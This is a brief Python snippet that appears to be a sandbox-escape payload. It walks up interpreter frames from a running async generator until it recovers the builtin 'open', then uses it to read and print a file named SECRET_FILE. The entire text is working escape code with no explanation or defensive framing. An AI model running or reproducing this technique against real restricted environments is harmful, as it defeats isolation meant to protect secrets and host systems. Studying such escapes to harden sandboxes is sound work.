# Walks up the frames from a running asynchronous generator.
async def walk():
    frame = walker.ag_frame
    while frame and "open" not in frame.f_builtins:
        frame = frame.f_back
    yield frame.f_builtins["open"]


walker = walk()
try:
    walker.asend(None).send(None)
except StopIteration as stop:
    print(stop.value(SECRET_FILE).read())
